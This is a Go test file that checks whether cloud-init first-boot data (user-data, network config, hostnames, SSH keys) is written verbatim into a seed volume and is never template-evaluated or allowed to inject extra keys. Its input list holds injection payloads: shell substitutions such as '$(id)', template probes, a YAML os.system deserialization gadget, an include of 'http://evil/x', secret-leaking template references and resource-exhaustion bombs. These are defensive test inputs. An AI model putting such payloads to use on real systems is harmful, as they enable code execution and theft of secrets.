package install

import (
	"bytes"
	"strings"
	"testing"

	"github.com/goccy/go-yaml"

	"github.com/lpmos/lpmos/agent/wire"
)

// engines are texts that one template engine or another would run.
var engines = []string{
	"#from os import system\n$system('touch pwned')", `{{ env "PATH" }}`, `{{ repeat 300000 "a" }}`, `{{template "T"}}`, `{{define "T"}}{{template "T"}}{{end}}{{template "T"}}`,
	"{{.CAKey}}", "{{ .Secret | printf \"%s\" }}", "${CA_KEY}", "$(id)", "`id`", "<%= 7*7 %>", "#{7*7}", "{% for x in range(9999999) %}a{% endfor %}",
	"## template: jinja\n{{ ds.meta_data.instance_id }}", "#include http://evil/x\n", "---\n...\n--- !!python/object/apply:os.system [id]", "%s%s%s%n", "\x00",
}

// S26: what people write for the first boot goes onto the disk letter for letter, and
// what else is in the seed neither runs it nor takes its shape from it.
func TestS26_TemplateInjection(t *testing.T) {
	for _, text := range engines {
		g := grantFor(wire.Manifest{SizeBytes: 1}, 1, wire.Contents{})
		g.Plan.FirstBoot.UserData, g.Plan.FirstBoot.NetworkConfig = text, text
		g.Plan.FirstBoot.Hostname, g.Plan.FirstBoot.SSHKeys = text, []string{text}
		docs := documents(g, text)
		if docs["user-data"] != text || docs["network-config"] != text {
			t.Errorf("%.40q was changed: %.60q, %.60q", text, docs["user-data"], docs["network-config"])
		}
		// cloud-init tells by the first line what a document is: those that are ours say
		// so themselves.
		if first, _, _ := strings.Cut(docs["vendor-data"], "\n"); first != "#cloud-config" {
			t.Errorf("%.40q makes vendor data that begin with %q", text, first)
		}
		var vendor, meta map[string]any
		if err := yaml.Unmarshal([]byte(docs["vendor-data"]), &vendor); err != nil {
			t.Errorf("%.40q: vendor data: %v", text, err)
		}
		if err := yaml.Unmarshal([]byte(docs["meta-data"]), &meta); err != nil {
			t.Errorf("%.40q: meta data: %v", text, err)
		}
		if vendor["hostname"] != text || meta["local-hostname"] != text {
			t.Errorf("%.40q became the host names %q and %q", text, vendor["hostname"], meta["local-hostname"])
		}
		for name := range vendor {
			switch name {
			case "hostname", "fqdn", "ssh_authorized_keys", "phone_home":
			default:
				t.Errorf("%.40q brought %q into the vendor data", text, name)
			}
		}
		for name := range meta {
			if name != "instance-id" && name != "local-hostname" {
				t.Errorf("%.40q brought %q into the meta data", text, name)
			}
		}
	}
}

// The most that may be asked for has its place, and more is no seed rather than a cut one.
func TestS26_TheSeedHasABound(t *testing.T) {
	g := grantFor(wire.Manifest{SizeBytes: 1}, 1, wire.Contents{})
	g.Plan.FirstBoot.UserData = strings.Repeat("a", 64<<10)
	g.Plan.FirstBoot.NetworkConfig = strings.Repeat("b", 64<<10)
	for range 100 {
		g.Plan.FirstBoot.SSHKeys = append(g.Plan.FirstBoot.SSHKeys, "ssh-rsa "+strings.Repeat("A", 8000))
	}
	for _, sector := range []int{512, 4096} {
		image, err := seedVolume(g, "52:54:00:00:00:01", 1<<20, sector)
		if err != nil {
			t.Fatalf("the largest seed with sectors of %d: %v", sector, err)
		}
		if len(image) > seedBytes || !bytes.Contains(image, []byte(g.Plan.FirstBoot.UserData)) {
			t.Errorf("%d bytes", len(image))
		}
	}
	g.Plan.FirstBoot.UserData = strings.Repeat("a", seedBytes)
	if _, err := seedVolume(g, "", 1<<20, 512); err == nil {
		t.Error("a seed that does not fit was made all the same")
	}
}
